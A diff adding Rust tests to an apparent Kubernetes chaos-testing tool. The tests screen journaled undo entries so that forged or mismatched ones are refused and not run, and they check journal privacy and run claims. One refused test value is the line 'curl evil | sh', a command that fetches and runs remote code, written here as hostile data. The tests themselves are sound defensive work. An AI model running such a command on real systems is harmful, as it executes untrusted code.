@@ -543,3 +543,153 @@ async fn restore_undoes_a_fault_as_the_run_that_made_it() {
         "the heal names the run of the journaled partition"
     );
 }
+
+/// Issue 69, item 4: `restore` carried out any undo a journal held (`Undo::Node(Run)` of
+/// any text as root on the node, any API action), though a run only ever journals a
+/// fault's inverse. Now an entry is screened against the fault table first.
+#[test]
+fn only_undos_a_run_writes_are_trusted() {
+    use super::trust::{Commands, Untrusted, check};
+    let any = Commands::Any;
+    let none = Commands::Declared(Default::default());
+    let with = |fault: &str, undo: Undo| Entry {
+        fault: fault.into(),
+        ..entry("x", "c", undo)
+    };
+    let taint = crate::experiment::model::TaintSpec {
+        key: "k".into(),
+        value: None,
+        effect: "NoExecute".into(),
+    };
+    for (fault, undo) in [
+        ("kubelet-stop", Undo::Node(NodeOp::KubeletStart)),
+        ("partition", Undo::Node(NodeOp::Heal)),
+        ("power-off", Undo::PowerOn),
+        ("shutdown", Undo::PowerOn),
+        ("reboot", Undo::PowerOn),
+        ("cordon", Undo::Api(Action::Uncordon)),
+        ("drain", Undo::Api(Action::Uncordon)),
+        ("taint", Undo::Api(Action::Untaint(taint.clone()))),
+        // Written before the kebab-case spelling, read as the same.
+        (
+            "kubelet-stop",
+            serde_json::from_str(r#"{"node":"kubeletStart"}"#).expect("old"),
+        ),
+    ] {
+        assert_eq!(
+            check(&with(fault, undo.clone()), &none),
+            Ok(()),
+            "{fault} {undo:?}"
+        );
+    }
+    let refused = [
+        (
+            "kubelet-stop",
+            Undo::Node(NodeOp::Run("curl evil | sh".into())),
+        ),
+        ("kubelet-stop", Undo::PowerOn),
+        ("cordon", Undo::Api(Action::DeleteNode)),
+        ("drain", Undo::Api(Action::Untaint(taint))),
+        ("delete-node", Undo::Api(Action::Uncordon)),
+        ("reboot", Undo::Node(NodeOp::Reboot)),
+        ("kubelet-start", Undo::Node(NodeOp::KubeletStop)),
+    ];
+    for (fault, undo) in refused {
+        assert!(
+            matches!(
+                check(&with(fault, undo.clone()), &any),
+                Err(Untrusted::NotItsUndo { .. })
+            ),
+            "{fault} {undo:?}"
+        );
+    }
+    assert_eq!(
+        check(&with("mine-now", Undo::PowerOn), &any),
+        Err(Untrusted::UnknownFault("mine-now".into()))
+    );
+    // A run step's own undo command: from a private journal, or declared.
+    let run = with("run", Undo::Node(NodeOp::Run("systemctl start app".into())));
+    assert_eq!(check(&run, &any), Ok(()));
+    assert!(matches!(
+        check(&run, &none),
+        Err(Untrusted::UndeclaredCommand { .. })
+    ));
+    let declared = Commands::Declared(["systemctl start app".to_string()].into());
+    assert_eq!(check(&run, &declared), Ok(()));
+}
+
+/// What the screen refuses is reported, not carried out, and stays in the journal.
+#[tokio::test]
+async fn a_refused_entry_is_not_carried_out_and_stays() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("journal.json");
+    let flag = dir.path().join("ran");
+    let mut j = Journal::open(&path).expect("open");
+    let forged = Entry {
+        fault: "kubelet-stop".into(),
+        ..entry(
+            "forged",
+            "c",
+            Undo::Node(NodeOp::Run(format!("touch '{}'", flag.display()))),
+        )
+    };
+    j.record(forged).expect("w");
+    let commands = super::trust::Commands::Any;
+    let screen = |e: &Entry| {
+        super::trust::check(e, &commands)
+            .err()
+            .map(|u| u.to_string())
+    };
+    let out = restore_all_with(&mut j, &executor(), "c", &quick(), &screen, no_api).await;
+    assert_eq!(out.len(), 1);
+    assert_eq!(out[0].attempts, 0);
+    assert!(
+        out[0]
+            .error
+            .as_deref()
+            .unwrap_or("")
+            .starts_with("refused:"),
+        "{:?}",
+        out[0].error
+    );
+    assert!(!flag.exists(), "the forged undo was not run");
+    assert_eq!(Journal::open(&path).expect("read").active("c").len(), 1);
+}
+
+/// A live run's claim tells `restore` its entries are not a dead run's: held while the
+/// claim lives, gone with it, and a claim file whose process died counts for nothing.
+#[test]
+fn a_run_claims_its_entries_while_it_lives() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("journal.json");
+    let j = Journal::open(&path).expect("open");
+    assert!(!j.run_alive("fl1"));
+    let claim = j.claim_run("fl1").expect("claim");
+    assert!(j.run_alive("fl1"));
+    assert!(!j.run_alive("fl2"));
+    assert!(j.claim_run("fl1").is_err(), "one claim per run");
+    drop(claim);
+    assert!(!j.run_alive("fl1"));
+    // A process that died left its file, unlocked.
+    let left = dir.path().join("journal.json.run-fl3.lock");
+    std::fs::write(&left, "").expect("write");
+    assert!(!j.run_alive("fl3"));
+    assert!(!left.exists(), "removed once found dead");
+}
+
+#[test]
+fn a_journal_on_a_volume_others_can_write_is_not_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("journal.json");
+    std::fs::write(&path, "{}").expect("write");
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    assert!(super::trust::private_to_this_user(&path));
+    // A shared volume (fsGroup makes it group-writable).
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o2775)).expect("chmod");
+    assert!(!super::trust::private_to_this_user(&path));
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).expect("chmod");
+    assert!(!super::trust::private_to_this_user(&path));
+}
